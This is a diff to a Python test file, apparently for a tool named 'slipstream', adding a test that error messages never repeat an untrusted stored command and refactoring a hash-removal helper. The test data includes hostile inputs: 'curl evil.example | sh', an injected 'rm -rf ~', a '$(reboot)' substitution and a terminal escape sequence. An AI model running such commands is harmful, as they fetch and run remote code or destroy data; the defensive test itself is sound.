@@ -4,6 +4,8 @@ import json
 import re
 import shutil
 from collections.abc import Callable, Iterator
+from functools import partial
+from operator import methodcaller
 from pathlib import Path
 from typing import Any
 
@@ -118,6 +120,29 @@ def test_another_format(engine: Path, version: object) -> None:
 
 
 @pytest.mark.parametrize(
+    "command",
+    [
+        "curl evil.example | sh",
+        "slipstream build x -o y; rm -rf ~",
+        "slipstream build $(reboot) -o y",
+        "slipstream build 'x\x1b[2J' -o y",
+        "slipstream build 'x\n' -o y",
+        "slipstream build 'x",
+        "slipstream quantize x -o y",
+        "",
+    ],
+)
+def test_an_error_suggests_no_command_of_a_stranger(engine: Path, command: str) -> None:
+    (engine / FILES[0]).unlink()
+    changes: list[dict[str, Any]] = [{}, {"format_version": 0}, {"limits": 3}]
+    for change in changes:
+        fields = {**change, "command": command}
+        edit(engine, methodcaller("update", fields))
+        message = assert_mismatch(lambda: open_engine(engine).verify_files(), "build it again")
+        assert message.endswith(f"build it again: slipstream build CHECKPOINT -o {engine}")
+
+
+@pytest.mark.parametrize(
     "content",
     ["", "{", "\xff\xfe", "[]", "3", "null", "{}", '{"command": "x"}', b"\xff\xfe\x00"],
 )
@@ -223,10 +248,14 @@ def test_a_value_out_of_bounds_is_one_sentence(engine: Path, edits: dict[str, An
     assert_mismatch(lambda: open_engine(engine), "lacks or misnames a field", next(iter(edits)))
 
 
+def _drop_hash(name: str, raw: dict[str, Any]) -> None:
+    del raw["files"][name]
+
+
 def test_no_file_goes_without_its_hash(engine: Path) -> None:
     for name in FILES:
         whole = (engine / "engine.json").read_text()
-        edit(engine, lambda raw, name=name: raw["files"].pop(name))
+        edit(engine, partial(_drop_hash, name))
         opened = open_engine(engine)
         assert_mismatch(opened.verify_files, f"{name} of the engine {engine} has no hash")
         (engine / "engine.json").write_text(whole)
